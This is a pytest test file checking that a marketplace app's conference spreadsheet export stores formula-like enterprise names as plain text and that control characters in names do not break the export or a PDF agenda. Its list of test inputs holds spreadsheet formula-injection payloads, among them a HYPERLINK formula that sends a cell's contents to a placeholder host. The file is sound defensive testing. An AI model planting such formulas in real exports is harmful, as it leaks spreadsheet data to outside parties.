"""Issue 13: the conference export keeps enterprises' names as text; odd stored characters never fail."""

from __future__ import annotations

import io

import pypdf
import pytest
from openpyxl import load_workbook

from khoi.marketplace import exports
from khoi.marketplace.models import Enterprise

ATTACKS = ['=HYPERLINK("http://x.example/?p="&C4,"Xem")', "+1", "-1", "@A1", "\tA"]


@pytest.mark.parametrize("name", ATTACKS)
def test_the_conference_export_writes_a_formula_like_name_as_the_text_typed(
    staff_client, conference, participant_a, name
):
    Enterprise.objects.filter(pk=participant_a.enterprise_id).update(name=name)
    response = staff_client.get(f"/market/conferences/{conference.pk}/export.xlsx")
    assert response.status_code == 200
    cells = [c for ws in load_workbook(io.BytesIO(response.content)).worksheets for r in ws.iter_rows() for c in r]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert name in [cell.value for cell in cells]


def test_control_characters_in_stored_names_do_not_break_the_export_or_the_agenda(
    staff_client, conference, participant_a
):
    Enterprise.objects.filter(pk=participant_a.enterprise_id).update(name="Công ty\x01 Cảng\x0b A")
    response = staff_client.get(f"/market/conferences/{conference.pk}/export.xlsx")
    assert response.status_code == 200
    participant_a.refresh_from_db()
    text = (
        pypdf.PdfReader(io.BytesIO(exports.participant_agenda_pdf(participant=participant_a))).pages[0].extract_text()
    )
    assert "Công ty Cảng A" in text
